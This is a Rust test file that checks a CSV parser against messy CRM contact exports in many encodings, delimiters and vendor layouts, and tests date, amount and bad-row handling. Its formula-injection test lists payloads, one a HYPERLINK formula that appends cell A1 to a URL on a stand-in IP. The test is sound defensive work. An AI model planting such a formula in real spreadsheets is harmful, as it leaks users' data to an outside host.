//! One table of contacts in the forms of many products, with a truth to compare with.

use kernel::Timestamp;
use tabular::Encoding;
use tabular::value::{DateOrder, DecimalMark, is_blank, parse_amount, parse_bool, parse_list, parse_moment};

use crate::{File, shared};

#[test]
fn every_messy_file_has_the_layout_and_rows_its_maker_wrote() {
    let Some(messy) = shared("crm/messy") else { return };
    for (name, encoding, delimiter, rows) in [
        ("01_utf8_bom_crlf.csv", Encoding::Utf8, ',', 200),
        ("02_semicolon.csv", Encoding::Utf8, ';', 200),
        ("03_gb18030_zh_headers.csv", Encoding::Gb18030, ',', 200),
        ("04_utf16le_bom_tab.txt", Encoding::Utf16Le, '\t', 200),
        ("05_excel_serial_dates.csv", Encoding::Utf8, ',', 200),
        ("06_all_quoted_newlines.csv", Encoding::Utf8, ',', 200),
        ("07_duplicates.csv", Encoding::Utf8, ',', 240),
        ("08_salesforce_leads.csv", Encoding::Utf8, ',', 200),
        ("09_hubspot_contacts.csv", Encoding::Utf8, ',', 200),
        ("10_zoho_leads.csv", Encoding::Utf8, ',', 200),
        ("11_google_contacts.csv", Encoding::Utf8, ',', 200),
        ("12_outlook_contacts.csv", Encoding::Utf8, ',', 200),
        ("15_synonym_headers.csv", Encoding::Utf8, ',', 200),
    ] {
        let file = File::read(&messy.join(name));
        let layout = &file.sniff.layout;
        assert_eq!((layout.encoding, layout.delimiter.sign(), layout.header), (encoding, delimiter, true), "{name}");
        assert_eq!((file.rows.len(), file.faults.len()), (rows, 0), "{name}: {:?}", file.faults);
    }
}

#[test]
fn the_same_table_reads_the_same_from_every_form() {
    let Some(messy) = shared("crm/messy") else { return };
    let truth = File::read(&messy.join("truth.csv"));
    assert!(truth.rows.len() >= 200 && truth.faults.is_empty());
    for name in ["01_utf8_bom_crlf.csv", "02_semicolon.csv", "04_utf16le_bom_tab.txt"] {
        let file = File::read(&messy.join(name));
        assert_eq!(file.sniff.layout.columns, truth.sniff.layout.columns, "{name}");
        let same = file.cells().into_iter().zip(truth.cells()).filter(|(one, other)| {
            one.iter().map(|cell| cell.replace("\r\n", "\n")).eq(other.iter().map(|cell| cell.replace("\r\n", "\n")))
        });
        assert_eq!(same.count(), 200, "{name}");
    }
}

#[test]
fn headers_of_other_products_find_the_fields_the_manifest_names() {
    let Some(messy) = shared("crm/messy") else { return };
    for (name, expected) in mappings(&std::fs::read_to_string(messy.join("manifest.json")).unwrap()) {
        let file = File::read(&messy.join(&name));
        for (header, field) in expected {
            let column = file.sniff.layout.columns.iter().position(|column| *column == header.trim()).unwrap();
            assert_eq!(file.fields.get(field.as_str()), Some(&column), "{name}: {header} should be {field}");
        }
    }
}

/// Reads the `mapping` of each file of the manifest, which is written one member a line.
fn mappings(manifest: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found: Vec<(String, Vec<(String, String)>)> = Vec::new();
    let mut name = String::new();
    let mut inside = false;
    for line in manifest.lines() {
        let parts: Vec<&str> = line.split('"').collect();
        match parts.as_slice() {
            [_, "file", _, value, ..] => (*value).clone_into(&mut name),
            [_, "mapping", ..] => {
                inside = true;
                found.push((name.clone(), Vec::new()));
            }
            [_, header, _, field, ..] if inside => {
                found.last_mut().unwrap().1.push(((*header).to_owned(), (*field).to_owned()));
            }
            _ => inside = false,
        }
    }
    assert!(found.len() >= 6, "the manifest is written in another way");
    found
}

#[test]
fn serial_dates_and_amounts_are_what_the_truth_says() {
    let Some(messy) = shared("crm/messy") else { return };
    let truth = File::read(&messy.join("truth.csv"));
    let file = File::read(&messy.join("05_excel_serial_dates.csv"));
    for (row, other) in file.rows.iter().zip(&truth.rows) {
        let moment = parse_moment(file.cell(row, "created_at"), DateOrder::DayFirst).unwrap();
        let expected = Timestamp::parse_rfc3339(truth.cell(other, "created_at")).unwrap();
        assert_eq!(moment.timestamp(), expected);
        let day = parse_moment(file.cell(row, "last_activity_at"), DateOrder::DayFirst).unwrap();
        assert_eq!(day.date().to_string(), truth.cell(other, "last_activity_at"));
        let (revenue, expected) = (file.cell(row, "annual_revenue"), truth.cell(other, "annual_revenue"));
        assert_eq!(is_blank(revenue), is_blank(expected));
        if !is_blank(revenue) {
            assert_eq!(parse_amount(revenue, DecimalMark::Point).unwrap().value.to_string(), expected);
        }
    }
}

#[test]
fn flags_and_tags_of_every_row_parse() {
    let Some(messy) = shared("crm/messy") else { return };
    let truth = File::read(&messy.join("truth.csv"));
    for row in &truth.rows {
        assert_eq!(
            parse_bool(truth.cell(row, "do_not_contact")).unwrap().to_string(),
            truth.cell(row, "do_not_contact")
        );
        let tags = truth.cell(row, "tags");
        assert_eq!(parse_list(tags).join(";"), tags);
    }
}

#[test]
fn bad_rows_are_named_and_the_good_ones_stay() {
    let Some(messy) = shared("crm/messy") else { return };
    let file = File::read(&messy.join("14_bad_rows.csv"));
    let told: Vec<(u64, &str)> = file.faults.iter().map(|fault| (fault.line, fault.why.code())).collect();
    assert_eq!(
        told,
        [(11, "row-invalid-bytes"), (22, "row-cell-count"), (42, "row-cell-count"), (183, "row-unclosed-quote")]
    );
    assert!(file.rows.len() >= 174, "{}", file.rows.len());
    let truth = File::read(&messy.join("truth.csv"));
    let (cells, known) = (file.cells(), truth.cells());
    let unknown = cells.iter().filter(|cells| !known.contains(cells)).count();
    // One e-mail address and one date are damaged on purpose: their rows have the right shape.
    assert!(unknown <= 3, "{unknown}");
}

#[test]
fn formulas_stay_text_and_nul_is_refused() {
    let Some(messy) = shared("crm/messy") else { return };
    let file = File::read(&messy.join("13_formula_injection.csv"));
    assert!(file.faults.iter().all(|fault| fault.why.code() == "row-nul" && fault.column.is_some()));
    assert_eq!((file.rows.len() + file.faults.len(), file.rows.len()), (200, 194));
    for payload in ["=HYPERLINK(\"http://203.0.113.5/?\"&A1,\"click\")", "\r=1+1", "\t=1+1", "＝1+1"] {
        assert!(file.rows.iter().any(|row| row.cells.iter().any(|cell| cell == payload)), "{payload:?}");
    }
}
